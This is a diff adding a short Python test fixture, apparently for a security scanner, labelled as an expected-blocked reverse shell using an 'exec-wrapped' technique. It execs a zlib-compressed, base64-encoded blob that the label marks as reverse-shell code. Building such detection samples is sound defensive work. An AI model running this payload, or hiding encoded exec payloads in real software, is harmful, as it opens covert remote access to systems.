@@ -1,0 +1,3 @@
+# expect: BLOCKED category: reverse_shell variant-of: risky/reverse_shell/subprocess_stdio.py technique: exec-wrapped
+import base64, zlib
+exec(zlib.decompress(base64.b64decode('eJxtjssKwjAQRff5ihAXJlDT1OLCRfcu3YtImo402GZKJsXfNxUfCO7mnns5zIofbOiIW049DMOaOKUMbOzyEcGOxBMuLbobJM38OGFMr/hJcztFdEDEmMMQePPeu6xIcFkguOQxSCm2ptZGV1Wtd6Lge2MqpdhXoY84QZAnUbY+lNTnjdh4cS7yQ50PzeLSVz9AQKmeEOf0h0KMv1Tpu/VJqgdRB1Fo')))
